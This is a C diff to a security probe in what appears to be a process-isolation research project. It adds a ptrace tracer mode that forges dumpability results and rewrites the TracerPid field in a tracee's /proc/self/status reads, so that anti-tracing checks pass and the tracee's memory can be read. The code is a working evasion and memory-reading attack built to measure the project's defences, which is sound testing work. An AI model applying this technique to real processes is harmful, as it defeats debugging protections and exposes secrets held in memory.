@@ -5,27 +5,46 @@
  * the caller makes anything, and then resumes every tracee with
  * PTRACE_SYSCALL, so that it stops at the entry and exit of each system
  * call of the caller and of every process the caller starts from then on
- * (a compartment's server, an lwc context).  It does what the attack on
- * the "same-uid: enforced" verdict did:
+ * (a compartment's server, an lwc context).  It then reads a target the
+ * caller names with process_vm_readv and /proc/PID/mem, as any process of
+ * the uid could read a dumpable one.
  *
- *   - prctl(PR_SET_DUMPABLE, 0) is rewritten at its entry to
- *     prctl(PR_SET_DUMPABLE, 1): the process stays dumpable;
- *   - prctl(PR_GET_DUMPABLE) is made to return 0 at its exit: the process
- *     believes it is not;
+ * A server checks three things before it maps its trusted heap
+ * (isob_server_close_to_readers, src/mechanisms/server_close.c; seccomp's
+ * server checks them again before its filter), and the caller the first
+ * two (isob_caller_close_to_readers).  What the tracer does to each, as
+ * an attacker that controls every system call of its tracees would:
  *
- * and then, when the caller names a target, reads it with
- * process_vm_readv and /proc/PID/mem, as any process of the uid could read
- * a dumpable one.  It does not hide itself: TracerPid in /proc/PID/status
- * names it, which is what a server's check finds (server_close.c).  A
- * tracer that also rewrote what its tracee reads there would get past that
- * check as well: a tracer attached before a compartment exists controls
- * the compartment's system calls, and no check inside it can be trusted.
- * The matrix states that condition; this probe measures how far the
- * attack above gets.  x86-64 only (the registers that carry a system
- * call's arguments); elsewhere the probe is untested. */
+ *   1. prctl(PR_SET_DUMPABLE, 0): rewritten at its entry to
+ *      prctl(PR_SET_DUMPABLE, 1); the process stays dumpable (both modes);
+ *   2. prctl(PR_GET_DUMPABLE), which must say 0: made to return 0 at its
+ *      exit; the process believes it is closed (both modes);
+ *   3. TracerPid in /proc/self/status, which must be 0 (isob_tracer_pid:
+ *      fopen and fgets, that is openat and read): the naive mode leaves it
+ *      alone, and the server finds the tracer there and refuses to start
+ *      (-ISOB_ETRACED).  The hiding mode (ISOB_TRACER_HIDE) rewrites it at
+ *      the exit of every read, pread64, readv, preadv and preadv2 of every
+ *      tracee: where the bytes the call returned hold "TracerPid:", white
+ *      space and a number other than 0, the number becomes "0" padded with
+ *      spaces to the same length, in the tracee's buffer
+ *      (process_vm_writev; PTRACE_POKEDATA where that fails).  The count
+ *      the call returned stays the same, so nothing else in the file moves.
+ *
+ * No other check in the project decides -ISOB_ETRACED (server.h): no
+ * server tries PTRACE_TRACEME or reads /proc/self/stat's state.  The
+ * hiding mode covers a field in one buffer; a tracee that read the file a
+ * byte at a time, or through mmap (procfs does not allow it), or asked
+ * another process to read it for it would need more of the same: a tracer
+ * attached before a compartment exists controls its system calls, and no
+ * check inside it can be trusted.  The tracer reads and writes a tracee's
+ * buffer with the ptrace access check, which a non-dumpable tracee fails
+ * for a tracer without CAP_SYS_PTRACE: rewrite 1 is what keeps that open.
+ * x86-64 only (the registers that carry a system call's arguments);
+ * elsewhere the probe is untested. */
 #include <errno.h>
 #include <fcntl.h>
 #include <poll.h>
+#include <stdint.h>
 #include <signal.h>
 #include <stdio.h>
 #include <string.h>
@@ -131,6 +150,8 @@ static int read_all(int fd, void *buf, size_t len, int timeout_ms)
 struct tracee {
     pid_t pid;
     int fake_get;  /* at the exit of this call, make PR_GET_DUMPABLE return 0 */
+    long nr;       /* the system call it entered (hiding mode: the reads), or -1 */
+    uint64_t buf, count; /* its second and third arguments */
 };
 
 static struct tracee *tracee_of(struct tracee *t, pid_t pid)
@@ -145,13 +166,120 @@ static struct tracee *tracee_of(struct tracee *t, pid_t pid)
     if (free_slot) {
         free_slot->pid = pid;
         free_slot->fake_get = 0;
+        free_slot->nr = -1;
     }
     return free_slot;
 }
 
 #if defined(__x86_64__)
-/* At a system-call stop: rewrite or fake the dumpability calls. */
-static void at_syscall(pid_t pid, struct tracee *tr, struct isob_tracer_stats *st)
+/* Bytes of one read the hiding mode looks at: /proc/PID/status is about
+ * 1.5 KiB, and glibc's stdio reads it in one call of its buffer's size. */
+#define TRACER_SCAN_MAX 65536
+
+/* Read len bytes of the tracee at addr: process_vm_readv, else PEEKDATA. */
+static int tracee_read(pid_t pid, uint64_t addr, void *buf, size_t len)
+{
+    struct iovec local = {buf, len}, remote = {(void *)(uintptr_t)addr, len};
+    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == (ssize_t)len)
+        return 0;
+    for (size_t off = 0; off < len; off += sizeof(long)) {
+        errno = 0;
+        long w = ptrace(PTRACE_PEEKDATA, pid, (void *)(uintptr_t)(addr + off), 0);
+        if (errno)
+            return -errno;
+        memcpy((char *)buf + off, &w, len - off < sizeof w ? len - off : sizeof w);
+    }
+    return 0;
+}
+
+/* Write len bytes into the tracee at addr: process_vm_writev, else
+ * PEEKDATA and POKEDATA a word at a time (the bytes around kept). */
+static int tracee_write(pid_t pid, uint64_t addr, const void *buf, size_t len)
+{
+    struct iovec local = {(void *)buf, len}, remote = {(void *)(uintptr_t)addr, len};
+    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == (ssize_t)len)
+        return 0;
+    for (size_t off = 0; off < len;) {
+        uint64_t at = (addr + off) & ~(uint64_t)(sizeof(long) - 1);
+        size_t skip = (size_t)(addr + off - at), n = sizeof(long) - skip;
+        if (n > len - off)
+            n = len - off;
+        errno = 0;
+        long w = ptrace(PTRACE_PEEKDATA, pid, (void *)(uintptr_t)at, 0);
+        if (errno)
+            return -errno;
+        memcpy((char *)&w + skip, (const char *)buf + off, n);
+        if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)at, (void *)w) != 0)
+            return -errno;
+        off += n;
+    }
+    return 0;
+}
+
+/* In one buffer a tracee read (len bytes at addr): every "TracerPid:",
+ * white space and a number other than 0 becomes "TracerPid:", the same
+ * white space, "0" and spaces to the number's length. */
+static void hide_in(pid_t pid, uint64_t addr, size_t len, struct isob_tracer_stats *st)
+{
+    static const char key[] = "TracerPid:";
+    static char buf[TRACER_SCAN_MAX];
+    if (len > sizeof buf)
+        len = sizeof buf;
+    if (len < sizeof key || tracee_read(pid, addr, buf, len) != 0)
+        return;
+    for (size_t i = 0; i + sizeof key - 1 < len; i++) {
+        if (memcmp(buf + i, key, sizeof key - 1) != 0)
+            continue;
+        size_t d = i + sizeof key - 1;
+        while (d < len && (buf[d] == ' ' || buf[d] == '\t'))
+            d++;
+        size_t e = d;
+        while (e < len && buf[e] >= '0' && buf[e] <= '9')
+            e++;
+        int nonzero = 0;
+        for (size_t k = d; k < e; k++)
+            nonzero |= buf[k] != '0';
+        if (e == d || !nonzero)
+            continue;
+        buf[d] = '0';
+        memset(buf + d + 1, ' ', e - d - 1);
+        if (tracee_write(pid, addr + d, buf + d, e - d) == 0)
+            st->tracerpid_hidden++;
+        i = e;
+    }
+}
+
+/* At the exit of a read the tracee made (tr->nr): hide the tracer in what
+ * the call returned. */
+static void hide_at_exit(pid_t pid, const struct tracee *tr, int64_t got, struct isob_tracer_stats *st)
+{
+    if (got <= 0)
+        return;
+    if (tr->nr == SYS_read || tr->nr == SYS_pread64) {
+        hide_in(pid, tr->buf, (size_t)got, st);
+        return;
+    }
+    /* readv, preadv, preadv2: the iovecs in order, up to the count read. */
+    struct iovec iov[16];
+    size_t n = tr->count < 16 ? (size_t)tr->count : 16;
+    if (n == 0 || tracee_read(pid, tr->buf, iov, n * sizeof iov[0]) != 0)
+        return;
+    uint64_t left = (uint64_t)got;
+    for (size_t i = 0; i < n && left; i++) {
+        size_t take = iov[i].iov_len < left ? iov[i].iov_len : (size_t)left;
+        hide_in(pid, (uint64_t)(uintptr_t)iov[i].iov_base, take, st);
+        left -= take;
+    }
+}
+
+static int is_read(long nr)
+{
+    return nr == SYS_read || nr == SYS_pread64 || nr == SYS_readv || nr == SYS_preadv || nr == SYS_preadv2;
+}
+
+/* At a system-call stop: rewrite or fake the dumpability calls; hiding:
+ * hide the tracer in what a read returned. */
+static void at_syscall(pid_t pid, struct tracee *tr, int hide, struct isob_tracer_stats *st)
 {
     struct __ptrace_syscall_info info;
     memset(&info, 0, sizeof info);
@@ -159,8 +287,12 @@ static void at_syscall(pid_t pid, struct tracee *tr, struct isob_tracer_stats *s
         return;
     struct user_regs_struct regs;
     if (info.op == PTRACE_SYSCALL_INFO_ENTRY) {
-        if (tr)
+        if (tr) {
             tr->fake_get = 0;
+            tr->nr = hide && is_read((long)info.entry.nr) ? (long)info.entry.nr : -1;
+            tr->buf = info.entry.args[1];
+            tr->count = info.entry.args[2];
+        }
         if (info.entry.nr != SYS_prctl)
             return;
         if ((int)info.entry.args[0] == PR_SET_DUMPABLE && info.entry.args[1] == 0 &&
@@ -171,6 +303,9 @@ static void at_syscall(pid_t pid, struct tracee *tr, struct isob_tracer_stats *s
         } else if ((int)info.entry.args[0] == PR_GET_DUMPABLE && tr) {
             tr->fake_get = 1;
         }
+    } else if (info.op == PTRACE_SYSCALL_INFO_EXIT && tr && tr->nr >= 0) {
+        hide_at_exit(pid, tr, info.exit.rval, st);
+        tr->nr = -1;
     } else if (info.op == PTRACE_SYSCALL_INFO_EXIT && tr && tr->fake_get) {
         tr->fake_get = 0;
         if (ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0 && regs.rax != 0) {
@@ -182,10 +317,11 @@ static void at_syscall(pid_t pid, struct tracee *tr, struct isob_tracer_stats *s
 }
 #define TRACER_ARCH_OK 1
 #else
-static void at_syscall(pid_t pid, struct tracee *tr, struct isob_tracer_stats *st)
+static void at_syscall(pid_t pid, struct tracee *tr, int hide, struct isob_tracer_stats *st)
 {
     (void)pid;
     (void)tr;
+    (void)hide;
     (void)st;
 }
 #define TRACER_ARCH_OK 0
@@ -237,7 +373,7 @@ static int drop_caps(void)
     return syscall(SYS_capset, &hdr, none) == 0 ? 0 : -errno;
 }
 
-static void __attribute__((noreturn)) tracer_main(pid_t caller, int cmd_fd, int reply_fd)
+static void __attribute__((noreturn)) tracer_main(pid_t caller, int hide, int cmd_fd, int reply_fd)
 {
     prctl(PR_SET_PDEATHSIG, SIGKILL);
     struct tracer_reply rep;
@@ -261,6 +397,7 @@ static void __attribute__((noreturn)) tracer_main(pid_t caller, int cmd_fd, int 
     }
     rep.stats.attached = 1;
     rep.stats.followed = 1;
+    rep.stats.hides = hide;
     struct tracee tracees[TRACER_MAX_TRACEES];
     memset(tracees, 0, sizeof tracees);
     tracee_of(tracees, caller);
@@ -296,7 +433,7 @@ static void __attribute__((noreturn)) tracer_main(pid_t caller, int cmd_fd, int 
         int sig = WSTOPSIG(status), event = status >> 16;
         long deliver = 0;
         if (sig == (SIGTRAP | 0x80)) {
-            at_syscall(pid, tr, &rep.stats);
+            at_syscall(pid, tr, hide, &rep.stats);
         } else if (event == PTRACE_EVENT_FORK || event == PTRACE_EVENT_VFORK || event == PTRACE_EVENT_CLONE) {
             rep.stats.followed++;
         } else if (event == PTRACE_EVENT_STOP) {
@@ -316,6 +453,11 @@ static void __attribute__((noreturn)) tracer_main(pid_t caller, int cmd_fd, int 
 /* ---- in the caller ---- */
 
 int isob_tracer_attach(struct isob_tracer *t, char *why, size_t len)
+{
+    return isob_tracer_attach_mode(t, 0, why, len);
+}
+
+int isob_tracer_attach_mode(struct isob_tracer *t, unsigned flags, char *why, size_t len)
 {
     memset(t, 0, sizeof *t);
     t->cmd_fd = t->reply_fd = -1;
@@ -351,7 +493,7 @@ int isob_tracer_attach(struct isob_tracer *t, char *why, size_t len)
     if (pid == 0) {
         close(cmd[1]);
         close(reply[0]);
-        tracer_main(caller, cmd[0], reply[1]);
+        tracer_main(caller, (flags & ISOB_TRACER_HIDE) != 0, cmd[0], reply[1]);
     }
     close(cmd[0]);
     close(reply[1]);
